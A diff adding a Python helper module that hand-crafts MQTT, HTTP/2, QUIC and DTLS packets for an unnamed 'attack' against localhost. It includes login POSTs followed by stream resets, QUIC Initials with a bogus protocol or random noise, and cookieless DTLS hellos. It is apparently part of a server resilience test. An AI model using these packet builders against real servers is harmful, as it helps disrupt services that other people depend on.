@@ -1,0 +1,181 @@
+"""The few packets of MQTT 3.1.1, HTTP/2, QUIC and DTLS that the attack needs, made by hand."""
+
+import hashlib
+import hmac
+import os
+import struct
+
+
+def text(value) -> bytes:
+    data = value if isinstance(value, bytes) else value.encode()
+    return struct.pack(">H", len(data)) + data
+
+
+def packet(kind: int, body: bytes) -> bytes:
+    """An MQTT packet; the remaining length takes at most four bytes."""
+    head, rest = bytearray([kind]), len(body)
+    while True:
+        rest, low = rest >> 7, rest & 0x7F
+        head.append(low | 0x80 if rest else low)
+        if not rest:
+            return bytes(head) + body
+
+
+def connect(client_id, user, password, keep_alive_s=60) -> bytes:
+    flags = 0xC2
+    return packet(0x10, text("MQTT") + struct.pack(">BBH", 4, flags, keep_alive_s) + text(client_id) + text(user) + text(password))
+
+
+def subscribe(topic) -> bytes:
+    return packet(0x82, struct.pack(">H", 1) + text(topic) + b"\x01")
+
+
+def publish(topic, number, payload) -> bytes:
+    """At QoS 1."""
+    return packet(0x32, text(topic) + struct.pack(">H", number) + payload)
+
+
+def puback(number) -> bytes:
+    return packet(0x40, struct.pack(">H", number))
+
+
+class Packets:
+    """Bytes as they come, and the packets in them: (first byte, body)."""
+
+    def __init__(self):
+        self.buffer = b""
+
+    def take(self, data):
+        self.buffer += data
+        while len(self.buffer) >= 2:
+            length, shift, at = 0, 0, 1
+            while at < len(self.buffer):
+                byte = self.buffer[at]
+                length |= (byte & 0x7F) << shift
+                shift, at = shift + 7, at + 1
+                if not byte & 0x80:
+                    break
+            else:
+                return
+            if len(self.buffer) < at + length:
+                return
+            first, body = self.buffer[0], self.buffer[at : at + length]
+            self.buffer = self.buffer[at + length :]
+            yield first, body
+
+
+def h2_frame(kind, flags, stream, body) -> bytes:
+    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body
+
+
+def h2_preface() -> bytes:
+    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
+
+
+def h2_literal(name, value) -> bytes:
+    """A header without indexing and without Huffman (RFC 7541 section 6.2.2)."""
+    return b"".join([b"\x00", bytes([len(name)]), name, bytes([len(value)]), value])
+
+
+def h2_login(stream, body) -> bytes:
+    """A POST of a login, and its reset."""
+    headers = b"".join(
+        h2_literal(name, value)
+        for name, value in (
+            (b":method", b"POST"),
+            (b":scheme", b"https"),
+            (b":authority", b"localhost"),
+            (b":path", b"/api/v1/session"),
+            (b"content-type", b"application/json"),
+            (b"content-length", b"%d" % len(body)),
+        )
+    )
+    return h2_frame(1, 4, stream, headers) + h2_frame(0, 1, stream, body)
+
+
+def h2_reset(stream) -> bytes:
+    return h2_frame(3, 0, stream, struct.pack(">I", 8))
+
+
+def varint(value) -> bytes:
+    return struct.pack(">H", value | 0x4000)
+
+
+def expand(secret, label, length) -> bytes:
+    """HKDF-Expand-Label of TLS 1.3, one block."""
+    info = struct.pack(">HB", length, 6 + len(label)) + b"tls13 " + label + b"\x00\x01"
+    return hmac.new(secret, info, hashlib.sha256).digest()[:length]
+
+
+INITIAL_SALT = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")
+
+
+def client_hello() -> bytes:
+    """A whole ClientHello of TLS 1.3 for a protocol that nobody speaks: the server finds that out last."""
+    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
+
+    share = X25519PrivateKey.generate().public_key().public_bytes_raw()
+
+    def extension(kind, body):
+        return struct.pack(">HH", kind, len(body)) + body
+
+    parameters = bytes([0x0F, 0, 0x04, 4]) + struct.pack(">I", 0x80100000)
+    extensions = b"".join(
+        [
+            extension(0, struct.pack(">HBH", 12, 0, 9) + b"localhost"),
+            extension(10, struct.pack(">HH", 2, 0x1D)),
+            extension(13, struct.pack(">HHH", 4, 0x0403, 0x0807)),
+            extension(16, struct.pack(">HB", 9, 8) + b"nonsense"),
+            extension(43, b"\x02\x03\x04"),
+            extension(51, struct.pack(">HHH", 36, 0x1D, 32) + share),
+            extension(57, parameters),
+        ]
+    )
+    body = b"\x03\x03" + os.urandom(32) + b"\x00" + struct.pack(">HH", 2, 0x1301) + b"\x01\x00"
+    body += struct.pack(">H", len(extensions)) + extensions
+    return b"\x01" + struct.pack(">I", len(body))[1:] + body
+
+
+def initial(hello) -> bytes:
+    """A client's first datagram (RFC 9001 appendix A.2) with these bytes of TLS."""
+    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
+    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+
+    destination = os.urandom(8)
+    first = hmac.new(INITIAL_SALT, destination, hashlib.sha256).digest()
+    secret = expand(first, b"client in", 32)
+    key, iv, mask_key = expand(secret, b"quic key", 16), expand(secret, b"quic iv", 12), expand(secret, b"quic hp", 16)
+    frames = b"\x06\x00" + varint(len(hello)) + hello
+    head = b"\xc3\x00\x00\x00\x01" + bytes([8]) + destination + b"\x00\x00"
+    frames = frames.ljust(1200 - len(head) - 2 - 4 - 16, b"\x00")
+    head += varint(4 + len(frames) + 16) + b"\x00\x00\x00\x00"
+    sealed = AESGCM(key).encrypt(iv, frames, head)
+    encryptor = Cipher(algorithms.AES(mask_key), modes.ECB()).encryptor()
+    mask = encryptor.update(sealed[:16])
+    masked = bytearray(head)
+    masked[0] ^= mask[0] & 0x0F
+    for at in range(4):
+        masked[-4 + at] ^= mask[1 + at]
+    return bytes(masked) + sealed
+
+
+def initial_of_noise() -> bytes:
+    """What looks like an Initial and cannot be decrypted."""
+    head = b"\xc3\x00\x00\x00\x01" + bytes([8]) + os.urandom(8) + b"\x00\x00"
+    return head + varint(1200 - len(head) - 2) + os.urandom(1200 - len(head) - 2)
+
+
+def dtls_hello() -> bytes:
+    """A ClientHello of DTLS 1.2 without a cookie, for keys and certificates."""
+
+    def extension(kind, body):
+        return struct.pack(">HH", kind, len(body)) + body
+
+    extensions = extension(10, struct.pack(">HHH", 4, 0x17, 0x1D)) + extension(11, b"\x01\x00")
+    extensions += extension(13, struct.pack(">HH", 2, 0x0403)) + extension(23, b"")
+    suites = struct.pack(">HHHH", 0xC02B, 0xC0AE, 0xC0A8, 0x00FF)
+    body = b"\xfe\xfd" + os.urandom(32) + b"\x00\x00" + struct.pack(">H", len(suites)) + suites + b"\x01\x00"
+    body += struct.pack(">H", len(extensions)) + extensions
+    length = struct.pack(">I", len(body))[1:]
+    message = b"\x01" + length + b"\x00\x00" + b"\x00\x00\x00" + length + body
+    return b"\x16\xfe\xfd" + bytes(8) + struct.pack(">H", len(message)) + message
